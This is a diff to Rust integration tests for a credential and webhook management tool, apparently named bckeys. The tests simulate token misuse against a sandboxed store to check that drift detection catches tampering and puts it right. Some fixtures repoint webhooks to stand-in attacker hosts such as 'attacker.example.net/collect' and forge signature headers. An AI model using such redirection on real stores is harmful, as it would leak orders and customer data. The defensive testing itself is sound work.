@@ -325,13 +325,11 @@ fn a_webhook_changed_behind_bckeys_back_is_a_security_finding_and_apply_puts_it_
     apply(&repo, &sandbox).code(0);
     let id = hooks(&sandbox)[0]["id"].as_u64().unwrap();
     // Someone with the account's token sends the store's orders elsewhere.
-    let out = bckeys(&repo, &sandbox).args(["reveal", "store/production/erp-sync"]).output().unwrap();
-    let env = String::from_utf8(out.stdout).unwrap();
-    let token = env.lines().find_map(|l| l.strip_prefix("BIGCOMMERCE_ACCESS_TOKEN=")).unwrap().trim_matches('\'');
+    let token = erp_token(&repo, &sandbox);
     let (status, text) = sandbox.api(
         "PUT",
         &format!("/v3/hooks/{id}"),
-        token,
+        &token,
         serde_json::json!({"destination": "https://attacker.example.net/collect"}),
     );
     assert_eq!(status, 200, "{text}");
@@ -351,6 +349,109 @@ fn a_webhook_changed_behind_bckeys_back_is_a_security_finding_and_apply_puts_it_
     bckeys(&repo, &sandbox).arg("plan").assert().success().stdout(predicate::str::contains("put it back"));
     apply(&repo, &sandbox).code(0);
     assert_eq!(hooks(&sandbox)[0]["destination"], "https://erp.example.com/hooks");
+    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
+}
+
+/// The access token of erp-sync, as someone holding it would use it.
+fn erp_token(repo: &Repo, sandbox: &Sandbox) -> String {
+    let out = bckeys(repo, sandbox).args(["reveal", "store/production/erp-sync"]).output().unwrap();
+    let env = String::from_utf8(out.stdout).unwrap();
+    env.lines().find_map(|l| l.strip_prefix("BIGCOMMERCE_ACCESS_TOKEN=")).unwrap().trim_matches('\'').to_owned()
+}
+
+fn drift_findings(repo: &Repo, sandbox: &Sandbox) -> Vec<serde_json::Value> {
+    let out = bckeys(repo, sandbox).args(["drift", "--format", "json"]).output().unwrap();
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    report["findings"].as_array().unwrap().clone()
+}
+
+#[test]
+fn headers_changed_behind_bckeys_back_are_found_without_showing_values_and_put_back() {
+    let (repo, sandbox) = setup();
+    repo.write_config(
+        &CONFIG
+            .replace("headers: {X-Env: production}", "headers: {X-Env: production, X-Signature: {secret: generate}}"),
+    );
+    apply(&repo, &sandbox).code(0);
+    let id = hooks(&sandbox)[0]["id"].as_u64().unwrap();
+    let token = erp_token(&repo, &sandbox);
+    let forged = "forged-signature-value-1234";
+    let body = serde_json::json!({"headers": {"X-Env": "production", "X-Signature": forged, "X-Extra": "yes"}});
+    let (status, text) = sandbox.api("PUT", &format!("/v3/hooks/{id}"), &token, body);
+    assert_eq!(status, 200, "{text}");
+
+    let findings = drift_findings(&repo, &sandbox);
+    let kinds: Vec<&str> = findings.iter().map(|f| f["finding"].as_str().unwrap()).collect();
+    assert_eq!(kinds, ["webhook_headers_changed"], "{findings:#?}");
+    let detail = findings[0]["detail"].as_str().unwrap();
+    assert!(detail.contains("X-Signature changed") && detail.contains("X-Extra added"), "{detail}");
+    assert!(!detail.contains(forged) && !detail.contains("yes"), "{detail}");
+    let out = bckeys(&repo, &sandbox).arg("drift").output().unwrap();
+    assert!(!String::from_utf8_lossy(&out.stdout).contains(forged));
+
+    bckeys(&repo, &sandbox).arg("plan").assert().success().stdout(predicate::str::contains("put them back"));
+    apply(&repo, &sandbox).code(0);
+    let (_, text) = sandbox.api("GET", &format!("/v3/hooks/{id}"), &token, serde_json::Value::Null);
+    let headers = serde_json::from_str::<serde_json::Value>(&text).unwrap()["data"]["headers"].clone();
+    assert_eq!(headers["X-Env"], "production", "{text}");
+    assert_ne!(headers["X-Signature"], forged);
+    assert!(headers.get("X-Extra").is_none(), "{headers}");
+    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
+}
+
+#[test]
+fn a_configuration_change_is_planned_not_reported_as_changed_behind_bckeys_back() {
+    let (repo, sandbox) = setup();
+    apply(&repo, &sandbox).code(0);
+    repo.write_config(&CONFIG.replace("https://erp.example.com/hooks", "https://erp2.example.com/hooks"));
+    let findings = drift_findings(&repo, &sandbox);
+    assert!(findings.iter().all(|f| f["severity"] != "security"), "{findings:#?}");
+    bckeys(&repo, &sandbox)
+        .arg("plan")
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("update the webhook through the API"));
+}
+
+#[test]
+fn unmanaged_webhooks_are_reported_and_pruned_only_when_the_account_says_so() {
+    let (repo, sandbox) = setup();
+    apply(&repo, &sandbox).code(0);
+    let token = erp_token(&repo, &sandbox);
+    let body = serde_json::json!({"scope": "store/customer/*", "destination": "https://collector.example.net/x", "is_active": true});
+    let (status, text) = sandbox.api("POST", "/v3/hooks", &token, body);
+    assert_eq!(status, 200, "{text}");
+    let id: u64 = serde_json::from_str::<serde_json::Value>(&text).unwrap()["data"]["id"].as_u64().unwrap();
+
+    // Reported, as drift: the integration may register webhooks of its own.
+    let findings = drift_findings(&repo, &sandbox);
+    assert_eq!(findings.len(), 1, "{findings:#?}");
+    assert_eq!(findings[0]["finding"], "webhook_unmanaged");
+    assert_eq!(findings[0]["severity"], "drift");
+    assert_eq!(findings[0]["address"], "store/production/erp-sync");
+    assert_eq!(findings[0]["webhook_id"], id);
+    assert!(findings[0]["detail"].as_str().unwrap().contains("https://collector.example.net/x"));
+    // Without prune_webhooks apply leaves it alone.
+    apply(&repo, &sandbox).code(0);
+    assert_eq!(hooks(&sandbox).len(), 2);
+
+    // With it, the configuration claims every webhook of the account: a security finding, and
+    // apply deletes it (from a saved plan too), leaving the managed one.
+    repo.write_config(&CONFIG.replace("        webhooks:\n", "        prune_webhooks: true\n        webhooks:\n"));
+    let findings = drift_findings(&repo, &sandbox);
+    assert_eq!(findings[0]["severity"], "security", "{findings:#?}");
+    bckeys(&repo, &sandbox).args(["plan", "--out", "plan.json"]).assert().success();
+    let plan: serde_json::Value = serde_json::from_str(&repo.read("plan.json")).unwrap();
+    let prune = plan["actions"].as_array().unwrap().iter().find(|a| a["webhook_id"] == id).unwrap().clone();
+    assert_eq!((prune["action"].as_str(), prune["mode"].as_str()), (Some("delete"), Some("automated")), "{prune:#}");
+    bckeys(&repo, &sandbox)
+        .args(["apply", "--auto-approve", "--sandbox-panel=true", "plan.json"])
+        .assert()
+        .code(0)
+        .stdout(predicate::str::contains(format!("deleted unmanaged webhook {id}")));
+    let left = hooks(&sandbox);
+    assert_eq!(left.len(), 1, "{left:#?}");
+    assert_eq!(left[0]["destination"], "https://erp.example.com/hooks");
     bckeys(&repo, &sandbox).arg("drift").assert().code(0);
 }
 
